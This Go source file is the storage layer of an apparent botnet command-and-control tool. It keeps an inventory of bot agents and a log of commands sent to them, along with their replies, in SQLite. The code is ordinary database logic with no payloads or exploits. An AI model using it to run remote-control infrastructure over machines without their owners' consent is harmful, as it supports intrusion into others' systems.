// Package store persists the agent inventory and the command event log in
// SQLite (modernc pure-Go driver, no CGO). Migrations are embedded in the
// binary and applied on startup via golang-migrate. The event log rows double
// as the dispatch correlation space: a row's count is the cmd_id echoed back
// by the agent, and the reply correlator fills response/exit_code in batches.
package store

import (
	"context"
	"database/sql"
	"embed"
	"fmt"
	"time"

	"github.com/golang-migrate/migrate/v4"
	migratesqlite "github.com/golang-migrate/migrate/v4/database/sqlite"
	"github.com/golang-migrate/migrate/v4/source/iofs"
	"go.uber.org/zap"
	gormsqlite "gorm.io/driver/sqlite"
	"gorm.io/gorm"
	gormlogger "gorm.io/gorm/logger"

	// modernc pure-Go SQLite driver, registers itself as "sqlite".
	_ "modernc.org/sqlite"

	"github.com/rpcyber/botnet-commander/internal/metrics"
)

//go:embed migrations/*.sql
var migrationsFS embed.FS

// Config holds what Open needs to bring up the database.
type Config struct {
	// Path is the SQLite database file.
	Path string
	// FlushInterval is the reply correlator's batching window.
	FlushInterval time.Duration
	Logger        *zap.Logger
	Metrics       *metrics.Metrics
	LogLevel      gormlogger.LogLevel
}

// Store wraps the database handle and the reply correlator.
type Store struct {
	db         *gorm.DB
	log        *zap.Logger
	correlator *Correlator
}

// Open opens (or creates) the database, applies pending migrations, and
// starts the reply correlator machinery.
func Open(cfg Config) (*Store, error) {
	if cfg.Logger == nil {
		return nil, fmt.Errorf("store: logger is required")
	}

	// WAL keeps readers unblocked while sessions and the correlator write.
	dsn := fmt.Sprintf("file:%s?_pragma=journal_mode(WAL)&_pragma=busy_timeout(5000)&_pragma=synchronous(NORMAL)",
		cfg.Path)
	sqlDB, err := sql.Open("sqlite", dsn)
	if err != nil {
		return nil, fmt.Errorf("store: open sqlite: %w", err)
	}
	// SQLite supports only one writer at a time.
	sqlDB.SetMaxOpenConns(1)

	database, err := gorm.Open(gormsqlite.Dialector{Conn: sqlDB}, &gorm.Config{
		Logger: newZapGORMLogger(cfg.Logger, cfg.LogLevel),
	})
	if err != nil {
		return nil, fmt.Errorf("store: initialize gorm: %w", err)
	}

	if err := runMigrations(sqlDB, cfg.Logger); err != nil {
		return nil, fmt.Errorf("store: migrations: %w", err)
	}

	s := &Store{
		db:  database,
		log: cfg.Logger.Named("store"),
	}
	s.correlator, err = newCorrelator(s, cfg.FlushInterval, cfg.Logger, cfg.Metrics)
	if err != nil {
		return nil, err
	}
	return s, nil
}

// Close drains the correlator and closes the database.
func (s *Store) Close() error {
	s.correlator.shutdown()
	sqlDB, err := s.db.DB()
	if err != nil {
		return fmt.Errorf("store: get sql.DB: %w", err)
	}
	return sqlDB.Close()
}

// Ping verifies the database connection is still alive.
func (s *Store) Ping(ctx context.Context) error {
	sqlDB, err := s.db.DB()
	if err != nil {
		return fmt.Errorf("store: get sql.DB: %w", err)
	}
	return sqlDB.PingContext(ctx)
}

// AddAgent inserts a newly seen agent.
func (s *Store) AddAgent(ctx context.Context, agent BotAgent) error {
	if err := s.db.WithContext(ctx).Create(&agent).Error; err != nil {
		return fmt.Errorf("store: add agent: %w", err)
	}
	return nil
}

// RefreshAgent updates hostname and address for a known agent that came back
// from somewhere else. Only the two moving columns are touched.
func (s *Store) RefreshAgent(ctx context.Context, id, hostname, address string) error {
	result := s.db.WithContext(ctx).
		Model(&BotAgent{}).
		Where("id = ?", id).
		Updates(map[string]interface{}{
			"hostname": hostname,
			"address":  address,
		})
	if result.Error != nil {
		return fmt.Errorf("store: refresh agent: %w", result.Error)
	}
	return nil
}

// ExistingAgents returns the full persisted inventory, for warm-loading the
// registry on startup.
func (s *Store) ExistingAgents(ctx context.Context) ([]BotAgent, error) {
	var agents []BotAgent
	if err := s.db.WithContext(ctx).Order("id ASC").Find(&agents).Error; err != nil {
		return nil, fmt.Errorf("store: existing agents: %w", err)
	}
	return agents, nil
}

// CountAgents counts persisted agents, optionally filtered by OS ("*" means
// all).
func (s *Store) CountAgents(ctx context.Context, osFilter string) (int64, error) {
	q := s.db.WithContext(ctx).Model(&BotAgent{})
	if osFilter != "*" {
		q = q.Where("os = ?", osFilter)
	}
	var total int64
	if err := q.Count(&total).Error; err != nil {
		return 0, fmt.Errorf("store: count agents: %w", err)
	}
	return total, nil
}

// ListAgents returns persisted agents matching entity ("*" or one id) and
// osFilter ("*" or an OS name).
func (s *Store) ListAgents(ctx context.Context, entity, osFilter string) ([]BotAgent, error) {
	q := s.db.WithContext(ctx).Model(&BotAgent{})
	if entity != "*" {
		q = q.Where("id = ?", entity)
	}
	if osFilter != "*" {
		q = q.Where("os = ?", osFilter)
	}
	var agents []BotAgent
	if err := q.Order("id ASC").Find(&agents).Error; err != nil {
		return nil, fmt.Errorf("store: list agents: %w", err)
	}
	return agents, nil
}

// DeleteAgents removes the given agents and their event history, then sweeps
// any orphaned history rows left behind by earlier partial deletes. Runs in
// one transaction.
func (s *Store) DeleteAgents(ctx context.Context, ids []string) error {
	if len(ids) == 0 {
		return nil
	}
	err := s.db.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		if err := tx.Where("id IN ?", ids).Delete(&BotAgent{}).Error; err != nil {
			return err
		}
		if err := tx.Where("id IN ?", ids).Delete(&CommandEvent{}).Error; err != nil {
			return err
		}
		// Orphan sweep: history rows whose agent no longer exists.
		return tx.
			Where("id NOT IN (?)", tx.Session(&gorm.Session{NewDB: true}).Model(&BotAgent{}).Select("id")).
			Delete(&CommandEvent{}).Error
	})
	if err != nil {
		return fmt.Errorf("store: delete agents: %w", err)
	}
	return nil
}

// LastRowID returns the highest count in the event log, or 0 when it is
// empty. The dispatcher reserves its contiguous cmd_id block from here.
func (s *Store) LastRowID(ctx context.Context) (int64, error) {
	var last sql.NullInt64
	err := s.db.WithContext(ctx).
		Model(&CommandEvent{}).
		Select("MAX(count)").
		Scan(&last).Error
	if err != nil {
		return 0, fmt.Errorf("store: last row id: %w", err)
	}
	if !last.Valid {
		return 0, nil
	}
	return last.Int64, nil
}

// AddAgentEvents appends one event row per dispatch target. The rows land
// with NULL response, so the reply correlator is kicked awake to wait for the
// agents' answers.
func (s *Store) AddAgentEvents(ctx context.Context, events []CommandEvent) error {
	if len(events) == 0 {
		return nil
	}
	if err := s.db.WithContext(ctx).Create(&events).Error; err != nil {
		return fmt.Errorf("store: add agent events: %w", err)
	}
	s.correlator.wake()
	return nil
}

// EnqueueResponse buffers one agent reply for the next correlator flush.
// Safe to call from any session goroutine.
func (s *Store) EnqueueResponse(cmdID int64, result, exitCode string) {
	s.correlator.enqueue(cmdID, result, exitCode)
}

// History returns event rows. entity is "*" or one agent id; reverse inverts
// the id match, returning rows for every agent NOT named (used to show the
// history of offline agents given the live set); osFilter narrows by the
// owning agent's OS.
func (s *Store) History(ctx context.Context, ids []string, reverse bool, osFilter string) ([]CommandEvent, error) {
	q := s.db.WithContext(ctx).Model(&CommandEvent{})
	if ids != nil {
		if reverse {
			q = q.Where("CommandHistory.id NOT IN ?", ids)
		} else {
			q = q.Where("CommandHistory.id IN ?", ids)
		}
	}
	if osFilter != "*" {
		q = q.Joins("JOIN BotAgents ON BotAgents.id = CommandHistory.id").
			Where("BotAgents.os = ?", osFilter)
	}
	var events []CommandEvent
	if err := q.Order("count ASC").Find(&events).Error; err != nil {
		return nil, fmt.Errorf("store: history: %w", err)
	}
	return events, nil
}

// pendingReplies reports how many event rows still wait for an agent answer.
func (s *Store) pendingReplies(ctx context.Context) (int64, error) {
	var n int64
	err := s.db.WithContext(ctx).
		Model(&CommandEvent{}).
		Where("response IS NULL").
		Count(&n).Error
	if err != nil {
		return 0, fmt.Errorf("store: pending replies: %w", err)
	}
	return n, nil
}

// flushResponses writes a batch of correlated replies, keyed by cmd_id.
func (s *Store) flushResponses(ctx context.Context, batch []reply) error {
	err := s.db.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		for _, r := range batch {
			result := tx.Model(&CommandEvent{}).
				Where("count = ?", r.cmdID).
				Updates(map[string]interface{}{
					"response":  r.result,
					"exit_code": r.exitCode,
				})
			if result.Error != nil {
				return result.Error
			}
			if result.RowsAffected == 0 {
				// The row was deleted (agent removed) between dispatch and
				// reply. Nothing to correlate against.
				s.log.Warn("reply for unknown cmd_id dropped", zap.Int64("cmd_id", r.cmdID))
			}
		}
		return nil
	})
	if err != nil {
		return fmt.Errorf("store: flush responses: %w", err)
	}
	return nil
}

// runMigrations applies all pending up-migrations from the embedded SQL
// files. ErrNoChange is treated as success.
func runMigrations(sqlDB *sql.DB, log *zap.Logger) error {
	src, err := iofs.New(migrationsFS, "migrations")
	if err != nil {
		return fmt.Errorf("create migration source: %w", err)
	}
	drv, err := migratesqlite.WithInstance(sqlDB, &migratesqlite.Config{})
	if err != nil {
		return fmt.Errorf("create sqlite migrate driver: %w", err)
	}
	m, err := migrate.NewWithInstance("iofs", src, "sqlite", drv)
	if err != nil {
		return fmt.Errorf("create migrator: %w", err)
	}
	if err := m.Up(); err != nil && err != migrate.ErrNoChange {
		return fmt.Errorf("apply migrations: %w", err)
	}
	log.Info("database migrations applied")
	return nil
}
